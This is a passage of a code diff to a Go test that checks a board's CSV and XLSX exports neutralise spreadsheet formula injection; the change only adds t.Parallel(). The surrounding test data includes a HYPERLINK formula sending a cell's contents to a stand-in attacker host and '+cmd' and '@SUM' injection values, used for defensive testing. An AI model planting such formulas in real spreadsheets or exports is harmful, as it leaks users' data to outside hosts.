@@ -17,6 +17,7 @@ const evilName = `=HYPERLINK("http://evil.example/?"&A1,"Somphone")`
 // leaves the board's CSV export neutralised (a leading quote, as OWASP
 // describes), and its XLSX export as a text cell, never a formula.
 func TestExportsAreFormulaSafe(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	if _, err := e.store.DB().Exec(`UPDATE candidates SET name_latin = ?, position = '+cmd', unit = '@SUM(1)'
 		WHERE id = (SELECT min(id) FROM candidates)`, evilName); err != nil {
